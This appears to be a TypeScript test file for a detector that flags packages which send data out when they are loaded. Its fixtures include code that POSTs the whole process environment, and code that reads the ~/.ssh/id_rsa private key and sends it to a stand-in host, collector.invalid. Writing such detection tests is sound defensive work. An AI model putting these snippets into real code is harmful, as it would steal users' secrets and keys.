import { installed, loaded, testDetector } from "../../test/test-detector.ts";
import { importExfiltration } from "./index.ts";

testDetector(importExfiltration, {
  fires: {
    "a webhook on loading": [
      "strong",
      loaded(`fetch("https://collector.invalid/hook", { method: "POST", body: JSON.stringify({ content: process.env }) });
        module.exports = 1;`),
    ],
    "a key on loading": [
      "decisive",
      loaded(`const fs = require("fs"), os = require("os");
        const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");
        require("https").request({ hostname: "collector.invalid", method: "POST" }).end(key);`),
    ],
  },
  silent: {
    "one variable in a header": loaded(
      `fetch("https://api.example/", { headers: { authorization: process.env.API_TOKEN } });`,
    ),
    "what an install does": installed(
      `fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify(process.env) });`,
    ),
    "a child that inherits the environment": loaded(
      `const { spawn } = require("child_process"); module.exports = () => spawn("git", ["log"], { env: { ...process.env } });`,
    ),
  },
});
